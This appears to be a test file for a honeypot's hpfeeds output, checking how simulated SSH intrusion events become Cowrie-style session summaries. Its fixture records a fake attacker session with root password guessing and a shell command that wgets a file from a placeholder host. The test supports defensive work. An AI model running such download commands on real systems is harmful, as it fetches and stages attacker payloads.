import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type EventSample, sampleBoot } from '../../../test/fixtures/events.ts';
import { createMessages, eventChannel, type Message, sessionChannel } from './hpfeeds.ts';

const { next } = sampleBoot('pot-1');
const start = Date.parse('2026-11-20T10:00:00Z');

/** Messages of events that come one a second. */
function messagesOf(samples: readonly EventSample[]): Message[] {
  const { next: add, rest } = createMessages();
  const told = samples.flatMap((one, at) =>
    add(next({ connection: 'c-1', ts: new Date(start + at * 1000).toISOString(), ...one })),
  );
  return [...told, ...rest()];
}

const session: readonly EventSample[] = [
  { type: 'ssh.connect' },
  { type: 'ssh.client', fp: { ua: 'SSH-2.0-Go' } },
  { type: 'ssh.auth', data: { user: 'root', password: 'a', accepted: false } },
  { type: 'ssh.auth', data: { user: 'root', password: 'b', accepted: true } },
  {
    type: 'ssh.shell.input',
    data: { line: 'wget http://example.invalid/a' },
    norm: { urls: ['http://example.invalid/a'] },
  },
  { type: 'ssh.shell.result', data: { line: 'nproc2', isKnown: false } },
  {
    type: 'ssh.file.put',
    norm: { urls: ['http://example.invalid/a'] },
    data: { artefacts: [{ name: 'a', sha256: 'cd'.repeat(32) }] },
  },
  { type: 'ssh.close' },
];

describe('messages of hpfeeds', () => {
  it('are one for each event, and one for a connection when it is over, as Cowrie has it', () => {
    const messages = messagesOf(session);
    assert.deepEqual(
      messages.map((one) => one.channel),
      [...Array(8).fill(eventChannel), sessionChannel],
    );
    assert.ok(messages.every((one) => one.ident === 'pot-1'));
    assert.deepEqual(messages.at(-1)?.payload, {
      session: 'c-1',
      startTime: '2026-11-20T10:00:00.000Z',
      endTime: '2026-11-20T10:00:07.000Z',
      peerIP: '198.51.100.7',
      peerPort: 40_000,
      hostIP: '192.0.2.1',
      hostPort: 6379,
      loggedin: ['root', 'b'],
      credentials: [['root', 'a']],
      commands: ['wget http://example.invalid/a'],
      unknownCommands: ['nproc2'],
      urls: ['http://example.invalid/a'],
      version: 'SSH-2.0-Go',
      ttylog: null,
      hashes: ['cd'.repeat(32)],
      protocol: 'ssh',
    });
  });

  it('keep connections apart, and tell of those that did not end', () => {
    const both = session.slice(0, 3).flatMap((one) => [one, { ...one, connection: 'c-2' }]);
    const sessions = messagesOf(both).filter((one) => one.channel === sessionChannel);
    assert.deepEqual(
      sessions.map((one) => (one.payload as { session: string }).session),
      ['c-1', 'c-2'],
    );
  });

  it('have no session for services that Cowrie has not', () => {
    const messages = messagesOf([{ type: 'docker.connect' }, { type: 'docker.close' }]);
    assert.deepEqual(new Set(messages.map((one) => one.channel)), new Set([eventChannel]));
  });

  it('remember no more connections and no more of one than they can', () => {
    const { next: add, rest } = createMessages();
    const early = Array.from({ length: 10_050 }, (_, at) =>
      add(next({ type: 'ssh.connect', connection: `c-${at}` })),
    ).flat();
    assert.equal(early.filter((one) => one.channel === sessionChannel).length, 50);
    assert.equal(rest().length, 10_000);
    const auth = { type: 'ssh.auth', data: { user: 'a', password: 'b', accepted: false } };
    const [told] = messagesOf(Array(600).fill(auth)).slice(-1);
    assert.equal((told?.payload as { credentials: unknown[] }).credentials.length, 500);
  });
});
